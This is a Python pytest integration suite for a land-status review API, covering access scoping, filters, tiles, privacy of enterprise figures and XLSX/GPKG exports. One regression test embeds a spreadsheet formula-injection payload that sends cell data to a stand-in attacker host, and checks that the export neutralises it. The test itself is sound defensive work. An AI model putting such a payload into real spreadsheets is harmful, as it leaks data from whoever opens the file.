"""The review API against the real server (uvicorn) and the real database."""

from __future__ import annotations

import pytest

pytestmark = pytest.mark.postgis


def test_list_is_scoped_and_sorted_by_priority(sessions, seeded):
    resp = sessions["off_east"].get("/api/candidates", params={"limit": 500})
    assert resp.status_code == 200, resp.text
    data = resp.json()
    ids = {c["candidate_id"] for c in data["items"]}
    assert ids == set(seeded["东区"])
    assert data["total"] == len(seeded["东区"])
    prios = [c["priority"] for c in data["items"]]
    assert prios == sorted(prios, reverse=True)
    assert {c["district"] for c in data["items"]} == {"东区"}


def test_admin_sees_everything(sessions, seeded):
    data = sessions["admin"].get("/api/candidates", params={"limit": 500}).json()
    assert data["total"] == len(seeded["东区"]) + len(seeded["西区"])


def test_town_grant_sees_only_that_town(sessions):
    data = sessions["plan_jia"].get("/api/candidates", params={"limit": 500}).json()
    assert data["total"] > 0 and {c["town"] for c in data["items"]} == {"甲镇"}


def _owner_ids(review_dsn, where, params=()):
    from gis.db.connection import connect

    with connect(review_dsn) as conn:
        return {r[0] for r in conn.execute(
            "SELECT c.candidate_id FROM candidate c " + where, params).fetchall()}


@pytest.mark.parametrize(("params", "where"), [
    ({"kind": "built_unused"}, "WHERE kind = 'built_unused'"),
    ({"kind": "built_unused,inefficient"}, "WHERE kind IN ('built_unused', 'inefficient')"),
    ({"town": "乙镇"}, "WHERE town = '乙镇'"),
    ({"status": "new"}, "WHERE status = 'new'"),
    ({"min_area": "1"}, "WHERE area_m2 >= 1"),
    ({"max_area": "10"}, "WHERE area_m2 <= 10"),
    ({"class": "A"}, "JOIN land_right lr ON lr.parcel_code = c.parcel_code"
                     " JOIN enterprise_score es ON es.credit_code = lr.credit_code"
                     " WHERE es.class = 'A'"),
])
def test_filters_match_the_database(sessions, review_dsn, seeded, params, where):
    data = sessions["admin"].get("/api/candidates", params=params | {"limit": 500}).json()
    assert {c["candidate_id"] for c in data["items"]} == _owner_ids(review_dsn, where)


def test_paging_and_sort(sessions, seeded):
    s = sessions["admin"]
    first = s.get("/api/candidates", params={"limit": 7, "sort": "id"}).json()
    second = s.get("/api/candidates", params={"limit": 7, "offset": 7, "sort": "id"}).json()
    ids = [c["candidate_id"] for c in first["items"] + second["items"]]
    assert ids == sorted(ids) and len(set(ids)) == 14
    assert first["total"] == second["total"] == 30


def test_detail_shows_evidence_history_and_surveys(sessions, seeded):
    cid = seeded["东区"][0]
    d = sessions["off_east"].get(f"/api/candidates/{cid}").json()
    assert d["candidate_id"] == cid and d["evidence"]["coverage"] == 0.12
    assert [r["rule"] for r in d["rules"]] == ["coverage_below_control", "tax_per_mu_below"]
    assert d["rules"][1]["value"] == 0.28 and d["evidence"]["enterprises"][0]["tax_wan"] == 12.5
    assert [s["survey_date"] for s in d["surveys"]] == ["2022-05-01", "2024-05-01"]
    assert d["geometry"]["type"] == "MultiPolygon"
    assert d["enterprises"][0]["figures"]["tax_wan"] > 0
    assert d["enterprises"][0]["class"] in "ABCD"
    assert isinstance(d["history"], list) and "allowed" in d


def test_viewer_sees_no_figures(sessions, seeded):
    cid = seeded["东区"][0]
    resp = sessions["viewer_east"].get(f"/api/candidates/{cid}")
    assert resp.status_code == 200
    d = resp.json()
    assert d["figures_shown"] is False
    assert all("figures" not in e for e in d["enterprises"])
    assert "tax_wan" not in resp.text and "revenue_wan" not in resp.text
    assert '"tax_per_mu"' not in resp.text and "electricity" not in resp.text
    # the evidence keeps what is not a figure; the tax rule keeps its name, not its numbers
    assert d["evidence"]["coverage"] == 0.12
    assert d["evidence"]["enterprises"][0]["class"] == "D"
    assert d["rules"][1]["rule"] == "tax_per_mu_below" and d["rules"][1]["value"] == "—"
    # and in words: the line says the figure is hidden, the holders' table has no figures
    words = {c["key"]: c["text"] for c in d["explanation"]["zh"]["checks"]}
    assert words["tax_per_mu_below"] == "—（企业经济数据，本角色不可查看）"
    assert words["coverage_below_control"] == "建筑系数 12.0% < 控制指标 30.0%"
    assert "0.28" not in resp.text and "12.5" not in resp.text
    assert not any("税收" in h for h in d["explanation"]["zh"]["enterprises"]["header"])
    tech = sessions["tech_east"].get(f"/api/candidates/{cid}").json()
    assert tech["figures_shown"] is False


def test_snapshots_before_and_after_differ(sessions, seeded):
    cid = seeded["东区"][0]  # its building is 40 m wide in the 2022 survey, 10 m in 2024
    s = sessions["off_east"]
    before = s.get(f"/api/candidates/{cid}/snapshot/before.svg")
    after = s.get(f"/api/candidates/{cid}/snapshot/after.svg")
    assert before.status_code == after.status_code == 200
    assert before.headers["content-type"].startswith("image/svg+xml")
    assert "2022-05-01" in before.text and "2024-05-01" in after.text
    assert before.text.count("<path") == after.text.count("<path") == 2
    def building(svg):  # the first path is the footprint, the last the parcel outline
        return svg.split('<path d="')[1].split('"')[0]

    assert building(before.text) != building(after.text)
    assert s.get(f"/api/candidates/{cid}/snapshot/sideways.svg").status_code == 404


def test_geojson_is_bbox_limited(sessions, seeded):
    s = sessions["admin"]
    assert s.get("/api/candidates.geojson").status_code == 400
    whole = s.get("/api/candidates.geojson", params={"bbox": "120,31,121,32"}).json()
    assert len(whole["features"]) == 30 and whole["truncated"] is False
    f = whole["features"][0]
    lon, lat = f["geometry"]["coordinates"][0][0][0]
    assert 120.5 < lon < 120.8 and 31.1 < lat < 31.3
    corner = s.get("/api/candidates.geojson", params={"bbox": "120.59,31.19,120.6015,31.2012"})
    assert 0 < len(corner.json()["features"]) < 30


def test_vector_tiles(sessions, seeded):
    import math

    def tile_of(lon, lat, z):
        n = 2 ** z
        x = int((lon + 180) / 360 * n)
        y = int((1 - math.asinh(math.tan(math.radians(lat))) / math.pi) / 2 * n)
        return x, y

    x, y = tile_of(120.6005, 31.2005, 16)
    for layer in ("parcels", "footprints", "candidates"):
        resp = sessions["admin"].get(f"/tiles/{layer}/16/{x}/{y}.mvt")
        assert resp.status_code == 200
        assert resp.headers["content-type"] == "application/vnd.mapbox-vector-tile"
        assert layer.encode() in resp.content and len(resp.content) > 50
    # below the layer's minimum zoom: an empty tile, never the whole city
    assert sessions["admin"].get("/tiles/footprints/10/0/0.mvt").content == b""
    # another district: row-level security leaves the tile without those parcels
    west = sessions["off_west"].get(f"/tiles/parcels/16/{x}/{y}.mvt")
    assert west.status_code == 200 and b"320500000000GB" not in west.content
    assert sessions["admin"].get("/tiles/secrets/16/1/1.mvt").status_code == 400


def test_export_xlsx_and_gpkg(sessions, seeded, tmp_path):
    import openpyxl
    import pyogrio

    s = sessions["plan_jia"]
    resp = s.get("/api/export.xlsx")
    assert resp.status_code == 200
    path = tmp_path / "d.xlsx"
    path.write_bytes(resp.content)
    book = openpyxl.load_workbook(path)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert rows[0][:2] == ("候选编号", "宗地代码")
    assert {r[4] for r in rows[1:]} == {"甲镇"} and len(rows) - 1 == 10
    explained = list(book["字段说明"].iter_rows(values_only=True))
    assert ("候选编号", "candidate_id", "candidate id") in explained
    # the codes in words, from the vocabulary
    from scoring.land_status.vocabulary import KINDS, STATUSES

    header = [dict((z, c) for z, c, _ in explained).get(h, h) for h in rows[0]]
    assert "kind_name" in header and rows[0][header.index("kind_name")] == "类型名称"
    for row in rows[1:]:
        assert row[header.index("kind_name")] == KINDS.label(row[header.index("kind")])
        assert row[header.index("status_name")] == STATUSES.label(row[header.index("status")])
    resp = s.get("/api/export.gpkg", params={"kind": "built_unused"})
    assert resp.status_code == 200
    gpkg = tmp_path / "d.gpkg"
    gpkg.write_bytes(resp.content)
    frame = pyogrio.read_dataframe(gpkg, layer="decisions")
    assert len(frame) >= 1 and set(frame["town"]) == {"甲镇"}
    assert set(frame["kind"]) == {"built_unused"}
    assert frame.crs.to_epsg() == 4549
    assert sessions["viewer_east"].get("/api/export.xlsx").status_code == 403
    assert sessions["tech_east"].get("/api/export.gpkg").status_code == 403


def test_export_xlsx_keeps_a_formula_comment_as_text(sessions, seeded, tmp_path):
    """Finding 11: a comment starting with '=' is a string cell, never a live formula."""
    import openpyxl

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    s = sessions["off_east"]
    cid = seeded["东区"][-1]
    d = s.get(f"/api/candidates/{cid}").json()
    status = "under_review" if "under_review" in d["allowed"] else d["allowed"][0]
    resp = s.post(f"/api/candidates/{cid}/decision",
                  json={"status": status, "version": d["version"], "comment": hostile,
                        **({"reason": "in_use"} if status == "rejected" else {})})
    assert resp.status_code == 200, resp.text
    resp = s.get("/api/export.xlsx")
    assert resp.status_code == 200
    path = tmp_path / "d.xlsx"
    path.write_bytes(resp.content)
    ws = openpyxl.load_workbook(path).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value == hostile]
    assert cells, "the comment is in the export"
    assert all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_me_and_options(sessions):
    me = sessions["plan_jia"].get("/api/me").json()
    assert me["role"] == "planner" and me["towns"] == ["甲镇"] and not me["everywhere"]
    assert "figures" in me["permissions"] and "decide" not in me["permissions"]
    opts = sessions["off_east"].get("/api/options").json()
    assert opts["towns"] == ["乙镇", "甲镇"] or set(opts["towns"]) == {"甲镇", "乙镇"}
    assert "in_use" in opts["reasons"] and opts["sorts"][0] == "priority"
    w, s, e, n = opts["bounds"]
    assert 120.59 < w < e < 120.63 and 31.19 < s < n < 31.21
    assert opts["styles"]["land_status"]["categories"][0]["value"] == "new"
